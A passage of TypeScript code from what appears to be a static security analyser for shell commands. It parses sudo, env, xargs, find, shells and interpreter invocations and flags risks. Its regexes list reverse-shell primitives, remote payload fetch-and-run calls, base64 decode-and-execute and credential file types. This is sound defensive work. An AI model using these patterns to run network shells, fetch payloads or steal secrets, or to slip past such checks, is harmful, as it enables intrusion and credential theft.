  const short = inv.program === 'sudo' ? 'ugCDhprtUTR' : inv.program === 'doas' ? 'uC' : '';
  const p = parseArgs(inv.args, { stopAtOperand: true, short, long: ['user', 'group', 'close-from', 'chdir', 'host', 'prompt', 'role', 'type', 'other-user', 'command-timeout', 'chroot'] });
  emit(a, inv, p);
  let rest = p.rest;
  const env: Record<string, string> = { ...inv.env };
  while (rest[0] && /^[A-Za-z_][A-Za-z0-9_]*=/.test(rest[0].text)) {
    const t = rest[0].text;
    env[t.slice(0, t.indexOf('='))] = rest[0].dynamic ? DYN : t.slice(t.indexOf('=') + 1);
    rest = rest.slice(1);
  }
  if (has(p, '-e', '--edit')) {
    for (const x of rest) a.path(x, 'write', 'sudoedit', inv.st);
    return;
  }
  if ((has(p, '-s', '--shell', '-i', '--login')) && rest.length) {
    runText(a, inv, { text: rest.map((r) => r.text).join(' '), dynamic: rest.some((r) => r.dynamic) }, `${inv.program} -s`);
    return;
  }
  let st = inv.st;
  const dir = value(p, '-D', '--chdir');
  if (dir) {
    st = a.clone(inv.st);
    a.setCwd(st, { v: a.cwdList(inv.st).map((b) => resolveLexical(b, dir.text)), dyn: dir.dynamic });
  }
  wrap(a, inv, rest, inv.program, env, st);
});

on(['su', 'runuser'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'cgGsuw', long: ['command', 'session-command', 'group', 'supp-group', 'shell', 'user', 'whitelist-environment'] });
  emit(a, inv, p);
  const c = value(p, '-c', '--command', '--session-command');
  if (c) runText(a, inv, c, `${inv.program} -c`);
  else if (inv.program === 'runuser' && value(p, '-u') && p.operands.length) wrap(a, inv, p.operands, 'runuser');
});

on('env', (a, inv) => {
  // A lone `-` is the old spelling of -i.
  const p = parseArgs(inv.args.map((x) => (x.text === '-' ? { ...x, text: '-i' } : x)), { stopAtOperand: true, short: 'uCS', digits: '0', long: ['unset', 'chdir', 'split-string', 'block-signal', 'default-signal', 'ignore-signal'], groups: [['-i', '--ignore-environment'], ['-0', '--null']] });
  let rest = p.rest;
  const env: Record<string, string> = { ...inv.env };
  while (rest[0] && /^[A-Za-z_][A-Za-z0-9_]*=/.test(rest[0].text)) {
    const t = rest[0].text;
    const name = t.slice(0, t.indexOf('='));
    env[name] = rest[0].dynamic ? DYN : t.slice(t.indexOf('=') + 1);
    rest = rest.slice(1);
  }
  const split = value(p, '-S', '--split-string');
  if (split) rest = [...split.text.split(/\s+/).filter(Boolean).map(f), ...rest];
  emit(a, inv, p);
  if (!rest.length) {
    a.risk('env-dump', 'env with no command prints the environment');
    for (const [name, v] of Object.entries(env)) if (!(name in inv.env)) a.envFact({ name, value: v, via: 'env' });
    return;
  }
  for (const [name, v] of Object.entries(env)) if (!(name in inv.env)) a.envFact({ name, value: v, via: 'env' });
  let st = inv.st;
  const dir = value(p, '-C', '--chdir');
  if (dir) {
    st = a.clone(inv.st);
    a.setCwd(st, { v: a.cwdList(inv.st).map((b) => resolveLexical(b, dir.text)), dyn: dir.dynamic });
  }
  wrap(a, inv, rest, 'env', env, st);
});

on('flock', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'wEc', long: ['timeout', 'conflict-exit-code', 'command'] });
  emit(a, inv, p);
  const [lock, ...cmd] = p.rest;
  if (lock && !/^\d+$/.test(lock.text)) a.path(lock, 'write', 'flock lock file', inv.st);
  const c = value(p, '-c', '--command') ?? (cmd[0]?.text === '-c' ? cmd[1] : undefined);
  if (c) runText(a, inv, c, 'flock -c');
  else wrap(a, inv, cmd, 'flock');
});

on('script', (a, inv) => {
  const p = parseArgs(inv.args, { short: 'cEIOBTm', long: ['command', 'echo', 'log-in', 'log-out', 'log-io', 'log-timing', 'logging-format'] });
  emit(a, inv, p);
  const c = value(p, '-c', '--command');
  if (c) runText(a, inv, c, 'script -c');
  for (const o of p.operands) a.path(o, 'write', 'script typescript file', inv.st);
});

on('watch', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'dnq', long: ['differences', 'interval', 'equexit'] });
  emit(a, inv, p);
  if (!p.rest.length) return;
  // watch joins its arguments with spaces and runs them with `sh -c` (unless -x): the quoting of the
  // original words is lost. Both readings are analysed, so neither hides what runs.
  wrap(a, inv, p.rest, 'watch');
  if (!has(p, '-x', '--exec')) runText(a, inv, { text: p.rest.map((r) => r.text).join(' '), dynamic: p.rest.some((r) => r.dynamic) }, 'watch');
});

on('xargs', (a, inv) => {
  const p = parseArgs(inv.args, {
    stopAtOperand: true,
    short: 'adELlnPsI',
    shortOptional: 'ei',
    digits: '0',
    long: ['arg-file', 'delimiter', 'eof', 'replace', 'max-lines', 'max-args', 'max-procs', 'max-chars', 'process-slot-var'],
  });
  emit(a, inv, p);
  for (const file of allValues(p, '-a', '--arg-file')) a.path(file, 'read', 'xargs -a', inv.st);
  const cmd = p.rest.length ? p.rest : [f('echo')];
  const items = stdinItems(inv.stdin);
  const repl = value(p, '-I', '--replace', '-i');
  const replStr = repl ? repl.text || '{}' : has(p, '-i') ? '{}' : undefined;
  const variants = items.length ? items.slice(0, 16) : [{ text: DYN, dynamic: true }];
  for (const item of variants) {
    const fields = replStr ? cmd.map((c) => (c.text.includes(replStr) ? { text: c.text.split(replStr).join(item.text), dynamic: c.dynamic || item.dynamic } : c)) : [...cmd, item];
    wrap(a, { ...inv, stdin: { kind: 'none' } }, fields, 'xargs');
  }
});

/**
 * Items a command gets on stdin (xargs, parallel): the words when the text is statically known; names
 * listed by `ls` or `find` upstream as a pattern over where they come from (grep filters in between only
 * narrow that down); else nothing known.
 */
function stdinItems(stdin: Stdin): Field[] {
  if (stdin.kind === 'text' && !stdin.dynamic) return stdin.text.split(/\s+/).filter(Boolean).map(f);
  if (stdin.kind !== 'pipe') return [];
  const last = stdin.producers[stdin.producers.length - 1];
  if (last?.output !== undefined && !last.outputDynamic) return last.output.split(/\s+/).filter(Boolean).map(f);
  const source = stdin.producers.find((p) => p.program === 'ls' || p.program === 'find');
  if (!source) return [];
  if (source.program === 'ls') {
    const dirs = source.args.filter((x) => !x.startsWith('-'));
    const all = source.args.some((x) => /^-[a-zA-Z]*[aA]/.test(x) || x === '--all' || x === '--almost-all');
    return (dirs.length ? dirs : ['.']).map((d) => ({ text: DYN, dynamic: false, glob: `${d.replace(/\/+$/, '')}/${all ? '{*,.*}' : '*'}` }));
  }
  const roots: string[] = [];
  for (const x of source.args) {
    if (/^[-(!,]/.test(x)) break;
    roots.push(x);
  }
  const nameAt = source.args.findIndex((x) => x === '-name' || x === '-iname');
  const name = nameAt >= 0 ? source.args[nameAt + 1] : undefined;
  return (roots.length ? roots : ['.']).map((r) =>
    name && !name.includes('/') ? { text: DYN, dynamic: false, glob: `${r.replace(/\/+$/, '')}/**/${name}`, noExpand: true } : f(`${r.replace(/\/+$/, '')}/${DYN}`),
  );
}

on('parallel', (a, inv) => {
  const sep = inv.args.findIndex((x) => /^:::+\+?$/.test(x.text));
  const head = sep < 0 ? inv.args : inv.args.slice(0, sep);
  const values = sep < 0 ? [] : inv.args.slice(sep + 1).filter((x) => !/^:::+\+?$/.test(x.text));
  const p = parseArgs(head, { stopAtOperand: true, short: 'jSaIdE', long: ['jobs', 'sshlogin', 'arg-file', 'replace', 'delimiter', 'joblog', 'results', 'tmpdir'] });
  emit(a, inv, p);
  for (const file of allValues(p, '-a', '--arg-file')) a.path(file, 'read', 'parallel -a', inv.st);
  if (!p.rest.length) {
    // No command: every input item (a ::: argument or a line of stdin) is itself a shell command line.
    if (values.length) for (const v of values.slice(0, 16)) runText(a, inv, v, 'parallel', { kind: 'none' });
    else executeSource(a, inv, classifyStdin(inv.stdin), 'parallel', 'shell');
    return;
  }
  const items = values.length ? values.slice(0, 16) : stdinItems(inv.stdin).slice(0, 16);
  const variants = items.length ? items : [{ text: DYN, dynamic: true }];
  for (const item of variants) {
    const cmd = p.rest.map((c) => (c.text.includes('{}') ? { text: c.text.split('{}').join(item.text), dynamic: c.dynamic || item.dynamic } : c));
    if (!cmd.length) continue;
    if (cmd.length === 1 && /\s/.test(cmd[0]!.text)) runText(a, inv, cmd[0]!, 'parallel');
    else wrap(a, { ...inv, stdin: { kind: 'none' } }, p.rest.some((c) => c.text.includes('{}')) ? cmd : [...cmd, item], 'parallel');
  }
});

on('find', (a, inv) => {
  const args = inv.args;
  let i = 0;
  while (i < args.length && /^-[HLP]$|^-D|^-O\d/.test(args[i]!.text)) i++;
  const roots: Field[] = [];
  while (i < args.length && !/^[-(!,]/.test(args[i]!.text)) roots.push(args[i++]!);
  if (!roots.length) roots.push(f('.'));
  const expr = args.slice(i);
  const flags = expr.filter((x) => x.text.startsWith('-')).map((x) => x.text);
  a.command({ program: 'find', invokedAs: inv.invokedAs, args: args.map((x) => x.text), subcommand: [], flags, operands: roots.map((r) => r.text), via: inv.via, env: inv.env, depth: inv.depth });
  for (const r of roots) a.path(r, 'list', 'find root', inv.st, { recursive: true });
  const names: string[] = [];
  for (let j = 0; j < expr.length; j++) {
    const t = expr[j]!.text;
    if ((t === '-name' || t === '-iname' || t === '-path' || t === '-wholename' || t === '-ipath') && expr[j + 1]) names.push(expr[j + 1]!.text);
  }
  const name = names.find((n) => !n.includes('/'));
  // What `{}` stands for: every path find reports below a root (a pattern), and the root itself unless
  // -mindepth says otherwise.
  const pattern = (root: Field): Field => {
    const base = root.text.replace(/\/+$/, '');
    return { text: DYN, dynamic: false, glob: `${base}/**${name ? `/${name}` : ''}`, noExpand: true };
  };
  // The root is among find's results unless -mindepth skips it or a -name filter does not match it.
  const nameRe = name ? new RegExp(`^${name.replace(/[.+^${}()|\\]/g, '\\$&').replace(/\*/g, '.*').replace(/\?/g, '.')}$`) : undefined;
  const includesRoot = (root: Field): boolean =>
    !expr.some((x, k) => x.text === '-mindepth' && Number(expr[k + 1]?.text) > 0) && (!names.length || (!!nameRe && nameRe.test(basename(root.text) || '/')));
  const embedded = (root: Field, text: string): Field[] => {
    const base = root.text.replace(/\/+$/, '');
    const below = `${base}/${DYN}${name && !/[*?[]/.test(name) ? `/${name}` : ''}`;
    const out = [{ text: text.split('{}').join(below), dynamic: true }];
    if (includesRoot(root)) out.push({ text: text.split('{}').join(root.text), dynamic: root.dynamic });
    return out;
  };
  for (let j = 0; j < expr.length; j++) {
    const t = expr[j]!.text;
    if (t === '-exec' || t === '-execdir' || t === '-ok' || t === '-okdir') {
      let k = j + 1;
      const cmd: Field[] = [];
      while (k < expr.length && expr[k]!.text !== ';' && expr[k]!.text !== '+') cmd.push(expr[k++]!);
      j = k;
      for (const r of roots) {
        const variants: Field[][] = [cmd.map((c) => (c.text === '{}' ? pattern(r) : c.text.includes('{}') ? embedded(r, c.text)[0]! : c))];
        if (includesRoot(r)) variants.push(cmd.map((c) => (c.text.includes('{}') ? { ...c, text: c.text.split('{}').join(r.text), dynamic: c.dynamic || r.dynamic } : c)));
        for (const fields of variants) wrap(a, { ...inv, stdin: { kind: 'none' } }, fields, `find ${t}`);
      }
    } else if (t === '-delete') {
      for (const r of roots) {
        if (names.length) a.path(pattern(r), 'delete', 'find -delete', inv.st, { recursive: true });
        else a.path(r, 'delete', 'find -delete', inv.st, { recursive: true });
      }
    } else if ((t === '-fprint' || t === '-fprint0' || t === '-fprintf' || t === '-fls') && expr[j + 1]) {
      a.path(expr[j + 1]!, 'write', `find ${t}`, inv.st);
    }
  }
});

// ── shells, eval, source ────────────────────────────────────────────────

const SHELLS = ['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'yash', 'posh', 'fish', 'rbash', 'busybox-sh', 'tcsh', 'csh'];

function shellHandler(a: ShellAnalyzer, inv: Invocation): void {
  const p = parseArgs(inv.args, { short: 'oO', stopAtOperand: true, long: ['rcfile', 'init-file'], flags: ['--login', '--norc', '--noprofile', '--posix', '--restricted', '--verbose', '--version', '--help'] });
  emit(a, inv, p);
  const commandMode = p.flags.some((x) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(x)) || has(p, '--command');
  for (const rc of allValues(p, '--rcfile', '--init-file')) a.path(rc, 'exec', `${inv.program} rcfile`, inv.st);
  if (commandMode) {
    // sh -c 'script' NAME ARG…: NAME is $0, the rest $1…
    const [script, zero, ...args] = p.rest;
    if (script) runText(a, inv, script, `${inv.program} -c`, inv.stdin, zero ? { zero, args } : { args: [] });
    return;
  }
  if (p.rest.length && !has(p, '-s')) {
    const script = p.rest[0]!;
    if (script.procsub) {
      executeSource(a, inv, classifyStdin(a.procStdin(script.procsub, inv.st, inv.via, inv.depth)), inv.program, 'shell');
      return;
    }
    if (isStdinAlias(script.text)) {
      executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'shell');
      return;
    }
    executeFile(a, inv, script, inv.program, 'shell');
    return;
  }
  executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'shell');
}
on(SHELLS, shellHandler);

on('busybox', (a, inv) => {
  const [applet, ...rest] = inv.args;
  if (!applet) return;
  a.exec([applet, ...rest], inv.st, { env: inv.env, stdin: inv.stdin, via: [...inv.via, 'busybox'], depth: inv.depth + 1 });
});

on('eval', (a, inv) => {
  emit(a, inv, parseArgs([]));
  const text = inv.args.map((x) => x.text).join(' ');
  const taint = inv.args.find((x) => x.taint)?.taint;
  runText(a, inv, { text, dynamic: inv.args.some((x) => x.dynamic), ...(taint ? { taint } : {}) }, 'eval');
});

on(['source', '.'], (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true });
  emit(a, inv, p);
  const file = p.rest[0];
  if (!file) return;
  if (file.procsub) {
    executeSource(a, inv, classifyStdin(a.procStdin(file.procsub, inv.st, inv.via, inv.depth)), inv.program, 'shell');
    return;
  }
  if (isStdinAlias(file.text)) {
    executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'shell');
    return;
  }
  executeFile(a, inv, file, inv.program, 'shell');
});

// ── interpreters ────────────────────────────────────────────────────────

interface InterpreterSpec {
  /** Flags whose value is inline code. */
  code: string[];
  /** Short options that take a value (not code). */
  short: string;
  long?: string[];
  /** `-m module` style. */
  module?: string;
}

const INTERPRETERS: Record<string, InterpreterSpec> = {
  python: { code: ['-c'], short: 'cmWXQ', module: '-m' },
  python2: { code: ['-c'], short: 'cmWXQ', module: '-m' },
  python3: { code: ['-c'], short: 'cmWXQ', module: '-m' },
  pypy: { code: ['-c'], short: 'cmWX', module: '-m' },
  pypy3: { code: ['-c'], short: 'cmWX', module: '-m' },
  node: { code: ['-e', '--eval', '-p', '--print'], short: 'epr', long: ['eval', 'print', 'require', 'import', 'loader', 'experimental-loader', 'env-file', 'input-type', 'conditions', 'title'] },
  nodejs: { code: ['-e', '--eval', '-p', '--print'], short: 'epr', long: ['eval', 'print', 'require', 'import', 'loader', 'env-file'] },
  bun: { code: ['-e', '--eval', '-p', '--print'], short: 'epr', long: ['eval', 'print', 'preload', 'env-file'] },
  deno: { code: [], short: '', long: ['allow-read', 'allow-write', 'allow-net', 'config', 'import-map'] },
  ruby: { code: ['-e'], short: 'eIrCEFx' },
  perl: { code: ['-e', '-E'], short: 'eEIMmlCdx' },
  php: { code: ['-r', '-B', '-R', '-E'], short: 'rBREcdfzt' },
  lua: { code: ['-e'], short: 'el' },
  luajit: { code: ['-e'], short: 'elj' },
  Rscript: { code: ['-e'], short: 'e' },
  R: { code: ['-e'], short: 'ef' },
  osascript: { code: ['-e'], short: 'els' },
  tclsh: { code: [], short: '' },
  wish: { code: [], short: '' },
  jshell: { code: [], short: '' },
  pwsh: { code: ['-c', '-command', '-Command', '-encodedcommand', '-EncodedCommand', '-ec', '-e'], short: '' },
  powershell: { code: ['-c', '-command', '-Command', '-encodedcommand', '-EncodedCommand', '-ec', '-e'], short: '' },
  'powershell.exe': { code: ['-c', '-command', '-Command', '-encodedcommand', '-EncodedCommand'], short: '' },
};

const EXEC_RE = /`[^`]+`|\b(os\.system|os\.popen|os\.exec\w*|os\.spawn\w*|subprocess\.\w+|Popen|pty\.spawn|commands\.getoutput|child_process|execSync|execFileSync|spawnSync|execFile|exec\s*\(|spawn\s*\(|system\s*\(|popen\s*\(|proc_open|shell_exec|passthru|qx[({\/]|Runtime\.getRuntime|ProcessBuilder|Deno\.(run|Command)|Bun\.spawn|Start-Process|Invoke-Expression|iex\b|do shell script|IO\.popen|Kernel\.exec|Open3|os\.execute|io\.popen|do shell script|pcntl_exec)/;
const FS_RE = /\b(open\s*\(|io\.open|os\.(remove|unlink|rmdir|rename|replace|makedirs|mkdir|chmod|chown|walk|listdir|scandir)|shutil\.|pathlib|Path\s*\(|readFile|writeFile|appendFile|createWriteStream|createReadStream|fs\.|require\(['"](node:)?fs['"]\)|from ['"](node:)?fs|unlink|rmSync|rmdirSync|File\.(open|read|write|delete)|IO\.(read|write)|fopen|file_get_contents|file_put_contents|readlines|glob\.|Deno\.(readTextFile|writeTextFile|remove|readFile|writeFile)|Bun\.(file|write)|Get-Content|Set-Content|Remove-Item|Out-File|io\.open|FileUtils)/;
const NET_RE = /\b(socket|urllib|requests\.|http\.client|httpx|aiohttp|fetch\s*\(|https?\.(get|request)|require\(['"](node:)?(https?|net|dgram|tls)['"]\)|net\.connect|XMLHttpRequest|Net::HTTP|LWP|HTTP::Tiny|IO::Socket|curl_|fsockopen|WebSocket|smtplib|ftplib|paramiko|Invoke-WebRequest|Invoke-RestMethod|WebClient|URLSession|open-uri|TCPSocket|iwr|irm|DownloadString|DownloadFile|Net\.WebClient|Start-BitsTransfer|wget|curl)/;
const WRITE_RE = /(['"](w|a|wb|ab|w\+|a\+|r\+)['"]|write|remove|unlink|rmtree|rmdir|rename|replace|mkdir|chmod|chown|copy|move|rmSync|appendFile|truncate|Set-Content|Remove-Item|Out-File|delete)/i;

function interpreterHandler(a: ShellAnalyzer, inv: Invocation): void {
  const name = versionless(inv.program);
  const spec = INTERPRETERS[name] ?? INTERPRETERS[inv.program]!;
  const single = name === 'pwsh' || name.startsWith('powershell') || name === 'tclsh' || name === 'wish';
  const p = parseArgs(inv.args, { short: spec.short, long: spec.long ?? [], stopAtOperand: true, singleDashLong: single });
  const mod = spec.module ? value(p, spec.module) : undefined;
  emit(a, inv, p, mod ? [mod.text] : []);
  for (const req of allValues(p, '-r', '--require', '--import', '--loader', '--experimental-loader', '--preload')) {
    if (req.text.startsWith('.') || req.text.startsWith('/')) a.path(req, 'exec', `${inv.program} preload`, inv.st);
  }
  for (const envFile of allValues(p, '--env-file')) a.path(envFile, 'read', `${inv.program} --env-file`, inv.st);
  let code: Field | undefined;
  for (const c of spec.code) {
    const v = value(p, c);
    if (v) code = v;
  }
  if (single && !code) {
    const idx = inv.args.findIndex((x) => spec.code.includes(x.text));
    if (idx >= 0) code = { text: inv.args.slice(idx + 1).map((x) => x.text).join(' '), dynamic: inv.args.slice(idx + 1).some((x) => x.dynamic) };
    if (code && /encoded/i.test(inv.args[idx]!.text)) {
      a.risk('decoded-to-shell', `${inv.program} runs a base64-encoded command`);
      return;
    }
  }
  if (name === 'deno' && p.rest[0]?.text === 'eval') code = p.rest[1];
  if (code) {
    inlineCode(a, inv, code.text, `${inv.program} inline code`, code.dynamic);
    // The remaining arguments are the program's argv; perl/ruby -n/-p read them as input, -i rewrites them.
    const files = p.rest.filter((x) => !x.text.startsWith('-'));
    readAll(a, inv, files, `${inv.program} argument`);
    if ((name === 'perl' || name === 'ruby') && p.flags.some((x) => /^-[a-zA-Z]*i/.test(x))) for (const x of files) a.path(x, 'write', `${inv.program} -i`, inv.st);
    return;
  }
  if (mod) {
    // python -m twine upload …: the module runs as the program of that name would.
    wrap(a, inv, [{ ...mod, text: mod.text.split('.')[0]! }, ...p.rest], `${inv.program} -m`);
    return;
  }
  const script = name === 'deno' ? (p.rest[0]?.text === 'run' ? p.rest[1] : p.rest[0]) : p.rest[0];
  if (script && script.text !== '-') {
    if (script.procsub) {
      executeSource(a, inv, classifyStdin(a.procStdin(script.procsub, inv.st, inv.via, inv.depth)), inv.program, 'inline');
      return;
    }
    executeFile(a, inv, script, inv.program, 'inline');
    readAll(a, inv, (name === 'deno' && p.rest[0]?.text === 'run' ? p.rest.slice(2) : p.rest.slice(1)).filter((x) => !x.text.startsWith('-')), `${inv.program} argument`);
    return;
  }
  executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'inline');
}
on(Object.keys(INTERPRETERS), interpreterHandler);

/**
 * Interpreter code given inline. Scans for process execution, file-system and network use; string literals
 * that look like paths become path facts; shell commands passed to system()/exec() are analysed as shell.
 */
export function inlineCode(a: ShellAnalyzer, inv: Invocation, code: string, label: string, dynamic = false, nesting = 0): void {
  a.risk('interpreter-inline', `${label}: ${truncate(code)}`);
  if (dynamic) a.risk('dynamic-eval', `${label} is computed at run time`);
  const exec = EXEC_RE.test(code);
  const fsUse = FS_RE.test(code);
  const net = NET_RE.test(code);
  const evals = EVAL_RE.test(code);
  if (exec) a.risk('interpreter-inline-exec', `${label} runs processes`);
  if (fsUse) a.risk('interpreter-inline-fs', `${label} uses the file system`);
  if (net) a.risk('interpreter-inline-net', `${label} uses the network`);
  if (ENV_DUMP_RE.test(code)) a.risk('env-dump', `${label} prints the environment`);
  if (net && SHELL_SPAWN_RE.test(code)) a.risk('network-shell', `${label} connects a shell to the network`);
  if (evals && net) a.risk('download-to-shell', `${label} evaluates code fetched from the network`);
  if (evals && DECODE_RE.test(code)) a.risk('decoded-to-shell', `${label} evaluates a decoded payload`);
  if (REFLECT_RE.test(code)) a.risk('dynamic-eval', `${label} looks up modules or functions by computed name`);
  const writes = WRITE_RE.test(code);
  const deletes = DELETE_RE.exec(code);
  for (const raw of stringLiterals(code)) {
    if (looksLikeUrl(raw)) addUrl(a, inv, raw, label);
    if (!looksLikePath(raw)) continue;
    const lit = raw === '~' || raw.startsWith('~/') ? a.env.home + raw.slice(1) : raw;
    a.path(f(lit), 'read', `${label} string`, inv.st);
    if (writes) a.path(f(lit), 'write', `${label} string`, inv.st);
    if (deletes) a.path(f(lit), 'delete', `${label} ${deletes[0]}`, inv.st, { recursive: RECURSIVE_DELETE_RE.test(deletes[0]) });
  }
  for (const cmd of shellCommandsIn(code)) runText(a, inv, cmd, `${label} shell command`, { kind: 'none' });
  // A base64 literal the code decodes is analysed as code of the same language.
  if (nesting < 2) {
    for (const m of code.matchAll(/(?:b64decode|atob|base64_decode|decode64|FromBase64String|Buffer\.from)\s*\(\s*['"]([A-Za-z0-9+/=_-]{8,})['"]/g)) {
      const decoded = decode('base64', m[1]!);
      if (decoded) inlineCode(a, inv, decoded, `${label} decoded payload`, false, nesting + 1);
    }
  }
}

const EVAL_RE = /\b(?:exec|eval)\s*\(|\biex\b|Invoke-Expression|new\s+Function\s*\(|\bFunction\s*\(|vm\.runIn|\bload\s*\(|instance_eval|module_eval|\beval\b/;
/**
 * Names looked up at run time (`getattr(__import__('o'+'s'), 'sys'+'tem')`, `require(x)`, `obj.send(m)`):
 * what the code calls cannot be read from its text, so the keyword scans above prove nothing.
 */
const REFLECT_RE = /\b__import__\s*\(|\bgetattr\s*\(|\bimportlib\b|__builtins__|__subclasses__|\bglobals\s*\(\s*\)\s*\[|\brequire\s*\(\s*[^'"`\s)]|\bimport\s*\(\s*[^'"`\s)]|\b(?:globalThis|global|process|Bun|Deno)\s*\[|\bReflect\.|\.(?:public_)?send\s*\(|\bconst_get\b|\bcall_user_func|->can\s*\(/;
const DECODE_RE = /b64decode|base64|atob\s*\(|FromBase64String|unpack\s*\(\s*['"]m|decode64|fromCharCode|\\x[0-9a-fA-F]{2}.*\\x[0-9a-fA-F]{2}/;
const ENV_DUMP_RE = /process\.env(?!\s*[.[])|\bos\.environ(?!\s*(?:\.get|\[|\.setdefault|\.pop))|%ENV\b|\bENV\.(?:to_h|each|inspect|to_a)|\bgetenv\s*\(\s*\)|System\.getenv\s*\(\s*\)|Get-ChildItem\s+env:|\$_ENV|Deno\.env\.toObject|Bun\.env(?!\s*[.[])|print\s+ENV\b|p\s+ENV\b|pp\s+ENV\b/;
const SHELL_SPAWN_RE = /dup2|pty\.spawn|\/bin\/(?:ba|z|da)?sh\b|cmd\.exe|powershell|Process\.Start|exec\s*\(\s*['"]\/bin/;
const DELETE_RE = /\b(?:shutil\.rmtree|rmtree|rm_rf|rm_r|rmSync|rmdirSync|unlinkSync|os\.RemoveAll|RemoveAll|Remove-Item|FileUtils\.rm\w*|File\.delete|Files\.delete\w*|os\.remove|os\.unlink|os\.rmdir|unlink|rmdir|fs\.rm|\.unlink\s*\(|\.rmdir\s*\()/;
const RECURSIVE_DELETE_RE = /rmtree|rm_rf|rm_r|rmSync|RemoveAll|Remove-Item|FileUtils\.rm/;

function truncate(s: string, n = 120): string {
  return s.length > n ? s.slice(0, n) + '…' : s;
}

function stringLiterals(code: string): string[] {
  const out: string[] = [];
  const re = /'((?:\\.|[^'\\])*)'|"((?:\\.|[^"\\])*)"/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(code)) && out.length < 64) out.push(unescapeC(m[1] ?? m[2] ?? ''));
  return out;
}

function looksLikePath(s: string): boolean {
  if (!s || s.length > 4096 || /\s{2,}|\n/.test(s)) return false;
  if (/^(~|\.{1,2})?\//.test(s) || s.startsWith('~')) return true;
  if (/^\.[A-Za-z0-9_-]/.test(s)) return true;
  if (/^[A-Za-z]:[\\/]/.test(s)) return true;
  return /^[\w.-]+\/[\w./-]*$/.test(s) || /^[\w-]+\.(env|pem|key|json|ya?ml|toml|ini|cfg|conf|sh|txt|db|sqlite|npmrc|netrc|p12|pfx|kdbx)$/.test(s);
}

/** Shell command strings passed to system()/exec()/subprocess with a literal argument. */
function shellCommandsIn(code: string): string[] {
  const out: string[] = [];
  const strRe = /(?:os\.execute|io\.popen|do shell script|Kernel\.system|IO\.popen|os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|Popen|execSync|exec|spawnSync|system|popen|shell_exec|passthru|proc_open|getoutput|`)\s*\(?\s*(?:\[\s*)?(['"])((?:\\.|(?!\1).)*)\1((?:\s*,\s*(['"])(?:\\.|(?!\4).)*\4)*)/g;
  let m: RegExpExecArray | null;
  while ((m = strRe.exec(code)) && out.length < 16) {
    const first = unescapeC(m[2]!);
    const more = [...(m[3] ?? '').matchAll(/(['"])((?:\\.|(?!\1).)*)\1/g)].map((x) => unescapeC(x[2]!));
    out.push(more.length ? [first, ...more].map(shellQuote).join(' ') : first);
  }
  for (const bt of code.matchAll(/`([^`]+)`/g)) if (out.length < 16) out.push(bt[1]!);
  return out;
}

function shellQuote(s: string): string {
  return /^[\w@%+=:,./-]+$/.test(s) ? s : `'${s.replace(/'/g, `'\\''`)}'`;
}

// ── awk and sed: languages with their own exec/write primitives ─────────

on(['awk', 'gawk', 'mawk', 'nawk'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'fvFeilE', long: ['file', 'assign', 'field-separator', 'source', 'include', 'load', 'exec'] });
  emit(a, inv, p);
  const files = allValues(p, '-f', '--file', '-E', '--exec', '-i', '--include');
  for (const file of files) a.path(file, 'read', 'awk program file', inv.st);
  for (const lib of allValues(p, '-l', '--load')) a.risk('interpreter-inline-exec', `awk loads extension ${lib.text}`);
  let ops = p.operands;
  const programs: Field[] = allValues(p, '-e', '--source');
  if (!files.length && !programs.length && ops[0]) {
    programs.push(ops[0]);
    ops = ops.slice(1);
  }
  for (const prog of programs) awkProgram(a, inv, prog.text);
  readAll(a, inv, ops.filter((o) => !/^[A-Za-z_][A-Za-z0-9_]*=/.test(o.text)), 'awk input');
});

function awkProgram(a: ShellAnalyzer, inv: Invocation, prog: string): void {
  // `for (k in ENVIRON)` or ENVIRON[k] with a computed key walks the environment; ENVIRON["HOME"] reads one.
  if (/\bin\s+ENVIRON\b/.test(prog) || /\bENVIRON\s*\[\s*[^\s"\]]/.test(prog)) a.risk('env-dump', `awk walks ENVIRON: ${truncate(prog)}`);
  for (const m of prog.matchAll(/system\s*\(\s*"((?:\\.|[^"\\])*)"/g)) {
    a.risk('interpreter-inline-exec', `awk system(): ${truncate(m[1]!)}`);
    runText(a, inv, unescapeC(m[1]!), 'awk system()');
  }
  if (/system\s*\(/.test(prog) && !/system\s*\(\s*"/.test(prog)) a.risk('interpreter-inline-exec', 'awk system() with a computed command');
  for (const m of prog.matchAll(/"((?:\\.|[^"\\])*)"\s*\|\s*getline|\|\s*"((?:\\.|[^"\\])*)"/g)) {
    const cmd = unescapeC(m[1] ?? m[2]!);
    a.risk('interpreter-inline-exec', `awk pipes through: ${truncate(cmd)}`);
    runText(a, inv, cmd, 'awk pipe');
  }
  for (const m of prog.matchAll(/>>?\s*"((?:\\.|[^"\\])*)"/g)) a.path(f(unescapeC(m[1]!)), 'write', 'awk print >', inv.st);
  for (const m of prog.matchAll(/getline(?:\s+[A-Za-z_][A-Za-z0-9_]*)?\s*<\s*"((?:\\.|[^"\\])*)"/g)) a.path(f(unescapeC(m[1]!)), 'read', 'awk getline <', inv.st);
}

on(['sed', 'gsed'], (a, inv) => {
  const p = parseArgs(inv.args, {
    short: 'efl',
    shortOptional: 'i',
    long: ['expression', 'file', 'line-length'],
    groups: [['-i', '--in-place'], ['-n', '--quiet', '--silent'], ['-E', '-r', '--regexp-extended']],
  });
  let ops = p.operands;
  const scripts = allValues(p, '-e', '--expression');
  for (const file of allValues(p, '-f', '--file')) a.path(file, 'read', 'sed script file', inv.st);
  if (!scripts.length && !p.values.has('-f') && ops[0]) {
    scripts.push(ops[0]);
    ops = ops.slice(1);
  }
  emit(a, inv, { ...p, operands: ops });
  const inPlace = has(p, '-i', '--in-place');
  readAll(a, inv, ops, 'sed input');
  if (inPlace) for (const o of ops) a.path(o, 'write', 'sed -i', inv.st);
  for (const s of scripts) sedScript(a, inv, s.text);
});

/** An optional sed address: line numbers, `$`, /regex/ (any characters), `\cregexc`, ranges and `!`. */
